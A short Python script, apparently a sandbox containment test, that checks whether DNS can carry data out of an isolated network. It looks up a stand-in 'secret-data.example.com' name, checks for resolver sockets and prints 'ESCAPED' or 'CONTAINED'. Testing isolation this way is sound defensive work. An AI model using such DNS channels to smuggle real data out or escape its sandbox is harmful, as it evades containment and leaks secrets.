"""Sends data out in DNS names, the favourite leak of closed networks.

Works wherever a resolver of the host is reachable, also by a socket. Stopped by there being no network and
no resolver's socket.
"""
import os
import socket

holes, refused = [], set()
for name in ("example.com", "secret-data.example.com"):
    try:
        holes.append(f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}")
    except OSError as error:
        refused.add(str(error))
for path in ("/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve"):
    if os.path.exists(path):
        holes.append(path)
print(f"ESCAPED: {holes}" if holes else f"CONTAINED: {sorted(refused)}")
